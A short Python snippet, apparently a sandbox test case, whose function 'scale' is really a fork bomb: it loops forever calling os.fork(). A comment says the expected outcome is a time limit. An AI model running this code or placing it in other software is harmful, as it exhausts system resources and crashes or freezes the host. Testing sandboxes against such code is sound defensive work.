# Each process starts others, for ever. Ends as: time limit.
# %% scale
import os

def scale(values, factor):
    while True:
        try:
            os.fork()
        except OSError:
            pass
